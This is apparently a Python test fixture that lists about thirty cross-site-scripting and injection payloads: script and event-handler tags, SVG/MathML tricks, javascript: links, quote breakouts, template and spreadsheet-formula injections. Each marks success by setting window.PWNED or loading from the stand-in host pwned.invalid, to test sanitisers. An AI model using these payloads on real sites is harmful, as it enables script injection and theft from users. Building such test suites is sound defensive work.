"""Texts that try to get out of their place: to run a script, fetch something, or become an element of the page.

Each that runs sets `window.PWNED`, each that fetches asks a host that there is not; a test can see both.
"""

from __future__ import annotations

PAYLOADS = {
    "script": "<script>window.PWNED=1</script><ScRiPt src=//pwned.invalid/x.js></sCrIpT >",
    "end of a script": "</script><script>window.PWNED=1</script>",
    "image": '<img src="//pwned.invalid/x.png" onerror="window.PWNED=1">',
    "drawing": '<svg onload="window.PWNED=1"><animate onbegin="window.PWNED=1" attributeName="x" dur="1s"/></svg>',
    "script in a drawing": (
        '<svg><script href="data:text/javascript,window.PWNED=1"/>'
        '<a xlink:href="javascript:window.PWNED=1"><text>x</text></a><use href="//pwned.invalid/x.svg#x"/></svg>'
    ),
    "end of a drawing": "</text></tspan></g></svg><img src=x onerror=window.PWNED=1>",
    "page in a drawing": (
        '<svg><foreignObject><iframe srcdoc="<script>parent.PWNED=1</script>"></iframe></foreignObject></svg>'
    ),
    "formula of mathematics": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=window.PWNED=1&gt;" src=x onerror=window.PWNED=1>'
    ),
    "element that opens": '<details open ontoggle="window.PWNED=1"><summary>x</summary></details>',
    "form": '<form action="//pwned.invalid/"><input autofocus onfocus="window.PWNED=1"><button>x</button></form>',
    "link": '<a href="javascript:window.PWNED=1">x</a><a href="data:text/html,<script>window.PWNED=1</script>">y</a>',
    "address": "javascript:window.PWNED=1//%0Awindow.PWNED=1",
    "base": '<base href="//pwned.invalid/"><link rel="stylesheet" href="x.css">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//pwned.invalid/">',
    "frame": '<iframe srcdoc="&lt;script&gt;parent.PWNED=1&lt;/script&gt;"></iframe>',
    "object": '<object data="//pwned.invalid/x"></object><embed src="//pwned.invalid/y">',
    "end of a style": '</style><style>@import "//pwned.invalid/x.css";*{background:url(//pwned.invalid/y)}</style>',
    "style": "red;background:url(//pwned.invalid/x)}*{background:url(//pwned.invalid/y)}",
    "end of a title": "</title></textarea></noscript></template></details><img src=x onerror=window.PWNED=1>",
    "end of a comment": "--><img src=x onerror=window.PWNED=1><!-- ]]><script>window.PWNED=1</script><![CDATA[ <?x ?>",
    "template": "${window.PWNED=1}` {{constructor.constructor('window.PWNED=1')()}} <%= window.PWNED=1 %>",
    "double quotes": '" autofocus tabindex="0" onfocus="window.PWNED=1" style="background:url(//pwned.invalid/x)" x="',
    "single quotes": "' autofocus tabindex='0' onfocus='window.PWNED=1' style='background:url(//pwned.invalid/x)' x='",
    "no quotes": "x` onmouseover=window.PWNED=1 style=background:url(//pwned.invalid/x) x=`",
    "entities": (
        "&lt;script&gt;window.PWNED=1&lt;/script&gt; &#60;img src=x onerror=window.PWNED=1&#x3e; "
        "&ltimg src=x onerror=window.PWNED=1&gt &amp;lt;b&amp;gt; \\u003cb\\u003e %3Cb%3E"
    ),
    "Markdown": (
        "[x](javascript:window.PWNED=1) ![x](//pwned.invalid/x.png) <javascript:window.PWNED=1> **y** `z`\n\n"
        "<img src=x onerror=window.PWNED=1>\n\n    code\n- [z]\n\n[z]: javascript:window.PWNED=1\n\n|a|b|\n|-|-|"
    ),
    "expression": "\"]}' + (window.PWNED=1) + datum['title'] + datum.x + '\\\\' + \"{[",
    "mathematics": "$100bn from one and $50bn from two; $$x$$ \\(y\\) \\[z\\] \\href{javascript:window.PWNED=1}{w}",
    "data": '"}]}]]>--><script>window.PWNED=1</script><!--<script>',
    "formula of a spreadsheet": '=HYPERLINK("http://pwned.invalid/","x");=1+1\t@SUM(1)\n-2+3;+4',
}
LONG = "<b onclick=window.PWNED=1>" + "long & " * 400
"""So long that charts and tables have to cut it."""
INERT = {"mathematics", "formula of a spreadsheet"}
"""Those that a browser alone does nothing with, wherever they stand."""
